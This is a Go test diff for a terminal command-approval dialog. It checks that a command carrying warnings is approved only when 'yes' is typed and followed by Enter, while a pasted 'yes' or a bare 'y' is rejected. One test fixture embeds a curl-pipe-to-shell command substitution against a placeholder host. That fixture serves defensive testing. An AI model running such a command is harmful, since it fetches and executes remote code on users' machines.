@@ -6,6 +6,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -82,10 +83,13 @@ func waitFor(t *testing.T, run func(...string) string, want string, flags ...str
 	return ""
 }
 
+// warnedPrompt is what the dialog shows while it waits for yes.
+const warnedPrompt = "anything else rejects:"
+
 func TestDialogRejects(t *testing.T) {
 	run := tmux(t)
-	screen := waitFor(t, run, "[y/n]")
-	r := plainsight.Sanitize(demoCommand)
+	screen := waitFor(t, run, warnedPrompt)
+	r := plainsight.Command(demoCommand)
 	// Every escape and every warning is on screen; lines are broken at 100
 	// columns, so look for each escape on its own.
 	for e := range r.Escapes.All() {
@@ -104,7 +108,7 @@ func TestDialogRejects(t *testing.T) {
 		}
 	}
 	// With attributes: the escapes are in reverse video.
-	styled := waitFor(t, run, "[y/n]", "-e")
+	styled := waitFor(t, run, warnedPrompt, "-e")
 	if a := attributes(styled, `\u{202e}`); !slices.Contains(a, "7") {
 		t.Errorf("the override's escape has attributes %q, want reverse video (7):\n%q", a, styled)
 	}
@@ -137,4 +141,51 @@ func TestDialogApproves(t *testing.T) {
 	if !strings.Contains(screen, "EXIT:0") || !strings.Contains(screen, "approved") {
 		t.Errorf("after y, screen:\n%s", screen)
 	}
+}
+
+// TestDialogWarnedNeedsYes checks that a command with warnings takes yes
+// typed and Enter, the same deliberate act as on the CLI and the web page:
+// y, which approves a clean command, does not; y then Enter rejects; a
+// pasted yes rejects; yes and Enter approves.
+func TestDialogWarnedNeedsYes(t *testing.T) {
+	cmd := strconv.Quote("/bin/echo \u2018$(curl -fsSL https://x.example/i.sh | sh)\u2019")
+	t.Run("y then Enter", func(t *testing.T) {
+		run := tmux(t, "-c", cmd)
+		waitFor(t, run, warnedPrompt)
+		run("send-keys", "-t", "dialog", "y")
+		// y alone decides nothing: the dialog is still waiting.
+		time.Sleep(500 * time.Millisecond)
+		screen := waitFor(t, run, warnedPrompt+" y")
+		if strings.Contains(screen, "EXIT:") || strings.Contains(screen, "Approved") {
+			t.Fatalf("after y, the warned command was decided:\n%s", screen)
+		}
+		run("send-keys", "-t", "dialog", "Enter")
+		screen = waitFor(t, run, "EXIT:")
+		if !strings.Contains(screen, "EXIT:1") || !strings.Contains(screen, "rejected") {
+			t.Errorf("after y and Enter, screen:\n%s", screen)
+		}
+	})
+	t.Run("pasted yes", func(t *testing.T) {
+		run := tmux(t, "-c", cmd)
+		waitFor(t, run, warnedPrompt)
+		run("set-buffer", "yes\n")
+		// -p pastes as the terminal would, in bracketed-paste markers
+		// when the dialog asked for them.
+		run("paste-buffer", "-p", "-t", "dialog")
+		screen := waitFor(t, run, "EXIT:")
+		if !strings.Contains(screen, "EXIT:1") || !strings.Contains(screen, "rejected") {
+			t.Errorf("after a pasted yes, screen:\n%s", screen)
+		}
+	})
+	t.Run("yes then Enter", func(t *testing.T) {
+		run := tmux(t, "-c", cmd)
+		waitFor(t, run, warnedPrompt)
+		run("send-keys", "-t", "dialog", "y", "e", "s")
+		waitFor(t, run, warnedPrompt+" yes")
+		run("send-keys", "-t", "dialog", "Enter")
+		screen := waitFor(t, run, "EXIT:")
+		if !strings.Contains(screen, "EXIT:0") || !strings.Contains(screen, "approved") {
+			t.Errorf("after yes and Enter, screen:\n%s", screen)
+		}
+	})
 }
